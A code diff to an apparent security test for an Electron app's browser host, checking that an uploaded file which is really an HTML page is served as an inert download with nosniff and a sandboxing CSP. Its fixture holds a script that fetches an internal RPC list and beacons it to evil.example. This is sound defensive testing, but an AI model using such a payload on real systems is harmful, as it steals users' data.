@@ -6,16 +6,18 @@ import { describe, expect, it } from 'vitest';
 import { createWorkbench } from '../../electron/core/workbench';
 import { blobPath } from '../../electron/store/blob-store';
 import { generateDemo } from '../../electron/services/demo/generate';
+import { writeDemoAccounts } from '../../electron/services/demo/accounts';
 import { tempDir } from '../integration/helpers';
 import { rpc, startHost } from '../integration/web-helpers';
 
 const HTML = Buffer.from('<html><body><script>fetch("/rpc/enterprises.list",{method:"POST",body:"{}"}).then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>');
 
 /** A workspace holding a "photo" that is really a page with a script, stored as text/html (as a crafted laptop's upload once was). */
-function workspaceWithPlantedPage(): { dir: string; sha256: string } {
+async function workspaceWithPlantedPage(): Promise<{ dir: string; sha256: string }> {
   const dir = join(tempDir(), 'ws');
   const wb = createWorkbench({ dataDir: dir, actor: 'system' });
   generateDemo(wb.store);
+  await writeDemoAccounts(wb.store); // the host's token session signs in as the demo's administrator
   const sha256 = createHash('sha256').update(HTML).digest('hex');
   const path = blobPath(wb.store.blobDir, sha256);
   mkdirSync(dirname(path), { recursive: true });
@@ -36,7 +38,7 @@ function rawGet(port: number, path: string, headers: Record<string, string>): Pr
 
 describe('a hostile page or file against the browser host', () => {
   it('a stored file that is a page is served as a download nothing can run, with nosniff and a sandboxing CSP', async () => {
-    const { dir, sha256 } = workspaceWithPlantedPage();
+    const { dir, sha256 } = await workspaceWithPlantedPage();
     const { url, token } = await startHost(dir);
     const res = await fetch(new URL(`/blobs/${sha256}`, url), { headers: { 'x-qingshui-token': token } });
     expect(res.status).toBe(200);
